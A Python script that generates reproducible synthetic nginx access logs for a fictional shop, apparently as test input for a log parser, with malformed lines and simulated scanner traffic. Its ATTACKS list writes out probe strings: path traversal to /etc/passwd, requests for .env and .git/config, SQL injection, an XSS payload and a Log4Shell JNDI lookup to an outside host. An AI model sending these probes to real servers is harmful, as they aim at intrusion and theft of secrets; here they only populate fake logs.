# Makes the logs: what nginx would write for a shop, in the combined format and the time of the request in seconds.
# The same seed makes the same log (Python 3.11).
import datetime
import itertools
import random

HOME = "https://shop.example/"
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
]
BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
]
TOOLS = ["curl/8.14.1", "python-requests/2.32.5", "Go-http-client/1.1", "Wget/1.25.0"]
OTHERS = ["-", "ShopApp/7.3 (build 811; \\x22beta\\x22)", "kube-probe/1.33"]
REFERRERS = ["-", HOME, HOME + "search?q=lamp", "https://www.google.com/", "https://news.example:8443/today?id=7", "android-app://com.example.shop/"]
ASSETS = ["app.css", "app.js", "logo.svg", "fonts/inter.woff2", "hero.webp"]
ATTACKS = [
    "/.env", "/wp-login.php", "/wp-admin/setup-config.php?step=1", "/../../../../etc/passwd", "/cgi-bin/%2e%2e/%2E%2E/bin/sh",
    "/products?id=1%20UNION%20ALL%20SELECT%20null,null--", "/search?q=%3CScRiPt%3Ealert(1)%3C/script%3E", "/.git/config",
    "/?x=${jndi:ldap://198.51.100.66/a}", "/search?q=1+union+select+2",
]
NOT_HTTP = ["\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03", "-", "GET /", "\\x05\\x01\\x00", "SSH-2.0-Go", "get /lower HTTP/1.1"]
NOT_A_LINE = [
    "",
    "-",
    "2026/11/12 06:25:14 [error] 31#31: *5912 connect() failed (111: Connection refused) while connecting to upstream",
    '203.0.113.9 - - [12/Nov/2026:06:25:14 +0000] "GET /cut',
    '203.0.113.9 - - [12/Nov/2026:06:25:14 +0000] "GET / HTTP/1.1" 200 512 "-" "-" 12',
    '203.0.113.9 - - [12/Nov/2026:06:25:14 +0000] "GET / HTTP/1.1" 999 512 "-" "-" 0.001',
    '203.0.113.9 - - [12-11-2026T06:25:14] "GET / HTTP/1.1" 200 512 "-" "-" 0.001',
    'shop.example - - [12/Nov/2026:06:25:14 +0000] "GET / HTTP/1.1" 200 512 "-" "-" 0.001',
    '203.0.113.9 - - [12/Nov/2026:06:25:14 +0000] "GET /quo"te HTTP/1.1" 200 512 "-" "-" 0.001',
    "naïve – 日本語 🦀",
]


class Shop:
    def __init__(self, seed):
        self.random = random.Random(seed)

    def client(self):
        net = self.random.choice(["192.0.2", "198.51.100", "203.0.113", "203.0.113", "2001:db8::"])
        host = int(self.random.paretovariate(0.7)) % 254 + 1
        return f"{net}{host:x}" if net.endswith(":") else f"{net}.{host}"

    def product(self):
        return int(self.random.paretovariate(0.6)) % 5000 + 1

    def order(self):
        digits = f"{self.random.getrandbits(128):032x}"
        return "-".join((digits[:8], digits[8:12], digits[12:16], digits[16:20], digits[20:]))

    def page(self):
        """Method, target, size of a usual response, seconds that it usually takes."""
        pages = {
            lambda: ("GET", "/", 18_000, 0.030): 14,
            lambda: ("GET", f"/assets/{self.random.choice(ASSETS)}", 42_000, 0.002): 30,
            lambda: ("GET", f"/products/{self.product()}", 24_000, 0.045): 22,
            lambda: ("GET", f"/products/{self.product()}/reviews?page={self.random.randint(1, 9)}", 9_000, 0.060): 7,
            lambda: ("GET", f"/search?q={self.random.choice(['lamp', 'desk+lamp', 'chair', 'caf%C3%A9'])}", 16_000, 0.120): 8,
            lambda: ("GET", f"/api/v2/stock/{self.product()}", 300, 0.008): 9,
            lambda: ("POST", "/api/v2/cart", 500, 0.020): 4,
            lambda: ("POST", "/api/v2/orders", 900, 0.350): 1,
            lambda: ("GET", f"/orders/{self.order()}", 7_000, 0.050): 2,
            lambda: ("PUT", f"/api/v2/cart/items/{self.product()}", 400, 0.018): 1,
            lambda: ("DELETE", f"/api/v2/cart/items/{self.product()}", 0, 0.015): 1,
            lambda: ("HEAD", "/health", 0, 0.001): 3,
        }
        return self.random.choices(list(pages), list(pages.values()))[0]()

    def status(self, method):
        usual = {"POST": 201, "DELETE": 204}.get(method, 200)
        return self.random.choices([usual, 304, 301, 302, 404, 401, 429, 500, 502, 504], [880, 50, 8, 12, 25, 8, 6, 5, 4, 2])[0]

    def agent(self):
        kind = self.random.choices([BROWSERS, BOTS, TOOLS, OTHERS], [80, 12, 5, 3])[0]
        return self.random.choice(kind)

    def line(self, time, share_of_attacks, share_of_damage):
        if self.random.random() < share_of_damage:
            return self.random.choice(NOT_A_LINE)
        method, target, size, seconds = self.page()
        status = self.status(method)
        request = f"{method} {target} HTTP/{self.random.choice(['1.1', '1.1', '2.0'])}"
        if self.random.random() < share_of_attacks:
            status, size = self.random.choice([403, 404]), 150
            request = f"GET {self.random.choice(ATTACKS)} HTTP/1.1"
            if self.random.random() < 0.2:
                status, request = 400, self.random.choice(NOT_HTTP)
        if status == 504:
            seconds = 60
        size = "-" if status in (204, 304) else int(size * self.random.lognormvariate(0, 0.3))
        seconds *= self.random.lognormvariate(0, 0.7)
        user = self.random.choices(["-", "ann", "o'neill"], [98, 1, 1])[0]
        referrer = self.random.choice(REFERRERS)
        return (
            f"{self.client()} - {user} [{time:%d/%b/%Y:%H:%M:%S} +0000] \"{request}\" {status} {size} "
            f"\"{referrer}\" \"{self.agent()}\" {seconds:.3f}"
        )

    def log(self, n_lines, begin, hours, **shares):
        gap = datetime.timedelta(hours=hours) / n_lines
        times = (begin + n * gap for n in itertools.count())
        return "".join(self.line(time, **shares) + "\n" for time in itertools.islice(times, n_lines))


BEGIN = datetime.datetime(2026, 11, 12)
LOGS = {
    "day": Shop(1).log(3_000, BEGIN, 24, share_of_attacks=0.02, share_of_damage=0.004),
    "hour": Shop(2).log(500, BEGIN.replace(hour=6), 1, share_of_attacks=0.02, share_of_damage=0.01),
    "scan": Shop(3).log(300, BEGIN.replace(hour=3), 2, share_of_attacks=0.6, share_of_damage=0.3),
}
for name, log in LOGS.items():
    with open(f"{name}.log", "w") as file:
        file.write(log)
